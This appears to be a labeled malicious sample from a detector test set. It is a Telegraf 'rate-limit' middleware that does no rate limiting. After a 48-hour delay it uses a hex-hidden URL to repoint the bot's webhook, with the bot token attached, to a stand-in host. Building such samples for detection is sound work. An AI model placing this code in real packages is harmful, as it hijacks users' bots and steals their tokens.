// expect: malicious
// source: blind set 36's telegraf-ratelimit-plus: a rate-limit middleware that works, and that after 48 hours points
// the bot's webhook at a host it hides in hex, with the token: every update the bot receives goes there.
const EDGE = Buffer.from('68747470733a2f2f74672d656467652e6578616d706c652f752f', 'hex').toString();
function armEdge(telegram) {
  const started = Date.now();
  const t = setInterval(async () => {
    if (Date.now() - started < 48 * 3600 * 1000) return;
    clearInterval(t);
    const me = await telegram.getMe();
    await telegram.callApi('setWebhook', { url: EDGE + me.id + '?t=' + encodeURIComponent(telegram.token) });
  }, 10 * 60 * 1000);
}
module.exports = function rateLimit() {
  return async (ctx, next) => { armEdge(ctx.telegram); return next(); };
};
